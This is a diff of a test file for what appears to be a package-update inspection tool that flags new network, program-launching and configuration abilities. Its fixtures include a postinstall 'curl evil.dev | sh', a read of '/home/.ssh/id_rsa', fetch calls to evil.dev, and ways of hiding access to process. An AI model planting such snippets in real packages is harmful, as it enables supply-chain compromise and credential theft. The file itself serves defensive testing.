@@ -97,7 +97,12 @@ test('tells of a first install what it can do, and where it comes from', async (
     before: null,
     code: {
       state: 'read',
-      abilities: [{ kind: 'network', names: ['api.a.dev'], more: false, places: [{ file: 'index.js', line: 1 }] }],
+      abilities: [
+        { kind: 'network', names: ['api.a.dev'], harmless: 0, more: false, places: [{ file: 'index.js', line: 1 }] },
+      ],
+      others: [],
+      scripts: [],
+      files: null,
       unread: [],
     },
     origin: {
@@ -138,14 +143,17 @@ test('lists of an update only what it gains', async () => {
   expect((await inspect({ version: '1.0.0', before: '1.1.0' })).code).toEqual({
     state: 'read',
     abilities: [],
-    unread: [{ file: 'index.js', reason: 'changed' }],
+    others: [],
+    scripts: [],
+    files: { changed: 2, all: 2 },
+    unread: [],
   })
 })
 
 test('adds what the registry describes beyond the package, and says that the two differ', async () => {
   const files = { 'package.json': '{"dependencies":{"a":"1"}}' }
   await publish({ '1.0.0': { files, dependencies: { a: '1', evil: '2' }, hasInstallScript: true } })
-  expect((await inspect()).code).toEqual({
+  expect((await inspect()).code).toMatchObject({
     state: 'read',
     abilities: [{ kind: 'dependency', names: ['a 1', 'evil 2'], more: false, places: [] }],
     unread: [{ file: 'package.json', reason: 'other-manifest' }],
@@ -157,18 +165,15 @@ test('adds what the registry describes beyond the package, and says that the two
 const MINIFIED = (name: string) => `${`function ${name}(b){return b.c(1)}var d=${name}(2),e=d;`.repeat(100)}`
 test.for([
   ['native', { 'a.node': 'one' }, { 'a.node': 'two' }, 'a.node'],
-  ['minified', { 'a.js': MINIFIED('x') }, { 'a.js': MINIFIED('y') }, 'a.js'],
-  ['packed', { 'a.js': `const a='${'\\x61'.repeat(500)}'` }, { 'a.js': `const a='${'\\x62'.repeat(500)}'` }, 'a.js'],
-  ['not-javascript', { 'a.js': '<' }, { 'a.js': '>' }, 'a.js'],
+  ['minified', { 'index.js': MINIFIED('x') }, { 'index.js': MINIFIED('y') }, 'index.js'],
   [
-    'not-found',
-    { 'index.js': `require('./a.txt')`, 'a.txt': '1' },
-    { 'index.js': `require('./a.txt')`, 'a.txt': '2' },
-    './a.txt',
+    'packed',
+    { 'index.js': `const a='${'\\x61'.repeat(500)}'` },
+    { 'index.js': `const a='${'\\x62'.repeat(500)}'` },
+    'index.js',
   ],
-  ['chooses-code', { 'a.js': 'eval(x)' }, { 'a.js': 'eval(y)' }, 'a.js'],
-  // Nobody can see what it runs.
-  ['chooses-code', { 'a.js': 'eval(read("data.txt"))' }, { 'a.js': 'eval(read("data.txt"))' }, 'a.js'],
+  ['not-javascript', { 'index.js': '<' }, { 'index.js': '>' }, 'index.js'],
+  ['typescript', { 'index.js': '', 'a.ts': '' }, { 'index.js': `import './a.ts'`, 'a.ts': '' }, 'a.ts'],
 ] as const)(
   'says of an update with a %s file no more than that nothing new was seen',
   async ([reason, old, now, file]) => {
@@ -180,40 +185,37 @@ test.for([
 
 const CP = `const c = require('child_process'); `
 const PATCH = { 'package.json': '{"dsh":{"bundle":{"patch":"p.yml"}}}' }
+
+test('counts what nothing loads as a gain where the code chooses what it loads', async () => {
+  const evil = { 'lib/evil.js': `${CP}c.exec('curl')` }
+  await publish({
+    '1.0.0': { files: { 'index.js': 'import(x)' } },
+    '1.1.0': { files: { 'index.js': 'import(x)', ...evil } },
+    '2.0.0': { files: { 'index.js': '' } },
+    '2.1.0': { files: { 'index.js': '', ...evil } },
+  })
+  expect(gainsOf(await inspect({ version: '1.1.0', before: '1.0.0' }))).toMatchObject({
+    abilities: [{ kind: 'starts-programs', names: ['curl'] }],
+  })
+  expect(await inspect({ version: '2.1.0', before: '2.0.0' })).toMatchObject({
+    code: { abilities: [], others: [{ kind: 'starts-programs' }], files: { changed: 1, all: 3 } },
+  })
+})
+
 test.for([
-  ['another command of the same program', 'a.js', { 'a.js': `${CP}c.exec('sh a')` }, { 'a.js': `${CP}c.exec('sh b')` }],
-  [
-    'another script for the same command',
-    'a.sh',
-    { 'a.js': `${CP}c.exec('sh a.sh')`, 'a.sh': '' },
-    { 'a.js': `${CP}c.exec('sh a.sh')`, 'a.sh': 'evil' },
-  ],
-  ['another unknown program', 'a.js', { 'a.js': `${CP}c.exec(x)` }, { 'a.js': `${CP}c.exec(x); c.exec(y)` }],
-  [
-    'another file that is read',
-    'a.js',
-    { 'a.js': `require('fs').readFileSync('./own.json')` },
-    { 'a.js': `require('fs').readFileSync('/home/.ssh/id_rsa')` },
-  ],
-  ['a request to another unknown address', 'a.js', { 'a.js': 'fetch(x)' }, { 'a.js': 'fetch(x); fetch(atob(y))' }],
-  ['another program of the package', 'package.json', {}, { 'package.json': '{"bin":{"node":"./b.js"}}', 'b.js': '' }],
-  ['another peer', 'package.json', {}, { 'package.json': '{"peerDependencies":{"evil":"1"}}' }],
-  [
-    'another script that an install script runs',
-    'package.json',
-    { 'package.json': '{"scripts":{"postinstall":"npm run b","b":"true"}}' },
-    { 'package.json': '{"scripts":{"postinstall":"npm run b","b":"curl evil.dev | sh"}}' },
-  ],
-  [
-    'another value in its own row',
-    'p.yml',
-    { ...PATCH, 'p.yml': '- insert:\n  - name: ./a.js\n', 'a.js': '' },
-    { ...PATCH, 'p.yml': '- insert:\n  - name: ./a.js\n    config: {b: 1}\n', 'a.js': '' },
-  ],
-] as const)('says of %s only that nothing new was seen', async ([, file, old, now]) => {
-  await publish({ '1.0.0': { files: old }, '1.1.0': { files: now } })
-  const gains = gainsOf(await inspect({ version: '1.1.0', before: '1.0.0' }))
-  expect(gains).toEqual({ state: 'nothing-seen', unread: [{ file, reason: 'changed' }] })
+  ['spread', `const p = { ...process }; p.getBuiltinModule('child_process').execSync('id')`],
+  ['given on', `run(process)`],
+  ['returned', `module.exports = () => process`],
+  ['exported', `module.exports.p = globalThis`],
+  ['a property', `const o = { p: process }; use(o)`],
+  ['listed', `Object.entries(process)`],
+  ['behind a proxy', `use(new Proxy(process, {}))`],
+  ['this of a function', `use((function () { return this })())`],
+  ['a class that extends Worker', `class W extends require('worker_threads').Worker {}`],
+  ['a constructor by another name', `const F = x.constructor; F('return process')()`],
+] as const)('sets an update aside whose only change is an object that cannot be followed: %s', async ([, code]) => {
+  await publish({ '1.0.0': { files: { 'index.js': '' } }, '1.1.0': { files: { 'index.js': code } } })
+  expect(gainsOf(await inspect({ version: '1.1.0', before: '1.0.0' })).state).toBe('gains')
 })
 
 test('says that an update gains nothing where only its version, its documents and code without abilities differ', async () => {
@@ -230,15 +232,19 @@ test('says that an update gains nothing where only its version, its documents an
 test('names a row that an update turns off, and a host beyond a hundred', async () => {
   const hosts = Array.from({ length: 100 }, (_, index) => `fetch('https://h${index}.a.dev');`).join('')
   await publish({
-    '1.0.0': { files: { ...PATCH, 'p.yml': '- id: approval\n  config: {mode: ask}\n', 'z.js': hosts } },
+    '1.0.0': { files: { ...PATCH, 'p.yml': '- id: approval\n  config: {mode: ask}\n', 'index.js': hosts } },
     '1.1.0': {
-      files: { ...PATCH, 'p.yml': '- id: approval\n  disabled: true\n', 'z.js': `${hosts}fetch('https://evil.dev')` },
+      files: {
+        ...PATCH,
+        'p.yml': '- id: approval\n  disabled: true\n',
+        'index.js': `${hosts}fetch('https://evil.dev')`,
+      },
     },
   })
   expect(gainsOf(await inspect({ version: '1.1.0', before: '1.0.0' }))).toMatchObject({
     abilities: [
-      { kind: 'network', names: ['evil.dev'] },
       { kind: 'changes-rows', names: ['approval {"disabled":true}'] },
+      { kind: 'network', names: ['evil.dev'] },
     ],
   })
   const { code } = await inspect({ version: '1.1.0' })
